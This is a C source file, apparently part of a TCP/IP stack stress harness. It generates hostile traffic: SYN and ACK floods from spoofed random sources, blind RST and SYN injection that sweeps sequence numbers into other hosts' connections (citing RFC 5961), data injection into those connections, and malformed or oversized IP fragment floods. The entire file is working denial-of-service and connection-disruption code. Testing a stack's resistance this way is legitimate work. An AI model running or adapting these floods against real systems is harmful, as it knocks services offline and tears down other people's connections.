// SPDX-License-Identifier: Apache-2.0
// Floods of frames that belong to no connection of ours: one function a frame.
#include "attack.h"

#include <string.h>

#define SPREAD 2654435761u // odd: its multiples visit every sequence number, evenly

static const uint8_t syn_options[] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 3, 7};

static struct victim nobody(const struct attack *a, uint64_t i)
{
    uint64_t r = attack_draw(a, 4 * i);

    return (struct victim){ATTACK_SOURCES | (r & 0xffff), (uint16_t)(1024 + (r >> 16) % 64000)};
}

static void syn(struct attack *a, uint64_t i)
{
    attack_segment(a, &(struct segment){.from = nobody(a, i),
                                        .seq = (uint32_t)attack_draw(a, 4 * i + 1),
                                        .flags = TCP_SYN,
                                        .window = 64240,
                                        .options = syn_options,
                                        .options_bytes = sizeof(syn_options)});
}

// ACKs, with and without data, for connections that there never were: SYN cookies must not believe them.
static void ack(struct attack *a, uint64_t i)
{
    uint64_t r = attack_draw(a, 4 * i + 1);

    attack_segment(a, &(struct segment){.from = nobody(a, i),
                                        .seq = (uint32_t)r,
                                        .ack = (uint32_t)(r >> 32),
                                        .flags = TCP_ACK | (i & 1 ? TCP_PSH : 0),
                                        .window = 502,
                                        .payload = "GET / HTTP/1.1\r\n\r\n",
                                        .payload_bytes = i & 1 ? 18 : 0});
}

// RST, RST with ACK, and SYN into others' connections, at sequence numbers that sweep the space. Source: RFC 5961 3, 4.
static void rst(struct attack *a, uint64_t i)
{
    static const uint8_t flags[] = {TCP_RST, TCP_RST | TCP_ACK, TCP_SYN};

    attack_segment(a, &(struct segment){.from = a->victims[i % a->victims_count],
                                        .seq = (uint32_t)(i / a->victims_count) * SPREAD,
                                        .ack = (uint32_t)attack_draw(a, i),
                                        .flags = flags[i % 3]});
}

// Data into others' connections. Source: RFC 5961 5.
static void data(struct attack *a, uint64_t i)
{
    static uint8_t junk[1000];

    memset(junk, 'X', sizeof(junk));
    attack_segment(a, &(struct segment){.from = a->victims[i % a->victims_count],
                                        .seq = (uint32_t)(i / a->victims_count) * SPREAD,
                                        .ack = (uint32_t)attack_draw(a, i),
                                        .flags = TCP_ACK | TCP_PSH,
                                        .window = 502,
                                        .payload = junk,
                                        .payload_bytes = i % 2 ? 1 : sizeof(junk)});
}

// Pieces that never become a datagram, overlap, are tiny, or would reach beyond 64 KiB.
static void fragments(struct attack *a, uint64_t i)
{
    static const struct {
        uint16_t offset_bytes, bytes;
        bool more;
    } kinds[] = {{0, 1400, true}, {0, 8, true}, {16, 1400, true}, {1392, 24, true}, {65528, 1400, false}, {8, 40, false}};
    static uint8_t payload[1400];
    size_t kind = i % (sizeof(kinds) / sizeof(kinds[0]));
    struct victim from = a->victims_count ? a->victims[i % a->victims_count] : nobody(a, i);

    payload[0] = (uint8_t)(from.port >> 8);
    payload[1] = (uint8_t)from.port;
    payload[2] = (uint8_t)(a->server_port >> 8);
    payload[3] = (uint8_t)a->server_port;
    payload[12] = 5 << 4;
    payload[13] = TCP_ACK;
    attack_fragment(a, &(struct fragment){from.ip, (uint16_t)(i / 6), kinds[kind].offset_bytes, kinds[kind].more, payload,
                                          kinds[kind].bytes});
}

bool attack_flood(struct attack *a)
{
    static const struct {
        const char *name;
        void (*frame)(struct attack *a, uint64_t i);
        bool needs_victims;
    } modes[] = {{"syn", syn, false}, {"ack", ack, false}, {"rst", rst, true}, {"data", data, true}, {"fragments", fragments, false}};

    for (size_t m = 0; m < sizeof(modes) / sizeof(modes[0]); m++) {
        if (strcmp(modes[m].name, a->mode) != 0 || (modes[m].needs_victims && !a->victims_count))
            continue;
        for (uint64_t i = 0; !attack_is_over(a);)
            for (int k = 0; k < ATTACK_BATCH; k++)
                modes[m].frame(a, i++);
        attack_flush(a);
        return true;
    }
    return false;
}
